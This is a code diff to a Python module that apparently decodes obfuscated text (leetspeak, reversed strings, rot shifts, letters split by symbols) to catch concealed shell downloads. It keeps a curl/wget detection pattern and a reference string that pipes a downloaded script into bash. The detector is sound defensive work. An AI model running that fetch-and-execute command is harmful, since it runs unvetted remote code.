@@ -28,6 +28,8 @@ MAX_SHIFTS: Final = 3
 _WHOLE_COMMAND: Final = re.compile(r"\b(?:curl|wget)\b", re.IGNORECASE)
 # What a download into a shell is once its signs are back.
 COMMAND: Final = "curl http://somewhere | bash"
+# In a longer text the words are mended, but not where they stand: that costs a multiple.
+MAX_IN_PLACE: Final = 16_384
 # Several words with digits or signs for letters; several words with signs inside.
 _KEEPING: Final = (
     (
@@ -36,7 +38,10 @@ _KEEPING: Final = (
         leet,
     ),
     (
-        re.compile(r"(?:[A-Za-z]{1,14}[-_.*+~|/\\^$@'`]{1,4}[A-Za-z]{1,14} ?){4}"),
+        re.compile(
+            r"(?:[A-Za-z]{1,14}+[-_.*+~|/\\^$@'`]{1,4}+){4}[A-Za-z]"
+            r"|(?:[A-Za-z]{1,14}+[-_.*+~|/\\^$@'`]{1,4}+[A-Za-z]{1,14}+ ){3}"
+        ),
         "signs inside words",
         pieced,
     ),
@@ -56,7 +61,7 @@ def named(text: str, squeezed: bytes, found: Iterable[int]) -> list[tuple[str, s
     texts: list[tuple[str, str]] = []
     if "squeezed" in bends:
         texts.append(("scattered or misspelled", mend(squeezed.decode())))
-        texts += _in_place(text, squeezed)
+        texts += _in_place(text, squeezed) if len(text) <= MAX_IN_PLACE else ()
     if "reversed" in bends:
         texts.append(("reversed", text[::-1]))
         texts.append(
@@ -75,14 +80,12 @@ def named(text: str, squeezed: bytes, found: Iterable[int]) -> list[tuple[str, s
         (PLAYS[at].name, PLAYS[at].undo(text))
         for at in [by for bend, by in ways if bend == "played"][:MAX_SHIFTS]
     ]
-    for bend, step in (("shifted", 1), ("both", -1)):
-        shifts = [by for one, by in ways if one == bend][:MAX_SHIFTS]
-        lowered = text.lower()[::step] if shifts else ""
-        texts += [
-            (f"rot{26 - by}" if by else "mirrored alphabet", lowered.translate(SHIFTS[by]))
-            for by in shifts
-        ]
-    return texts
+    shifts = [by for bend, by in ways if bend == "shifted"]
+    lowered = text.lower() if shifts else ""
+    return texts + [
+        (f"rot{26 - by}" if by else "mirrored alphabet", lowered.translate(SHIFTS[by]))
+        for by in shifts[:MAX_SHIFTS]
+    ]
 
 
 def _in_place(text: str, squeezed: bytes) -> Iterator[tuple[str, str]]:
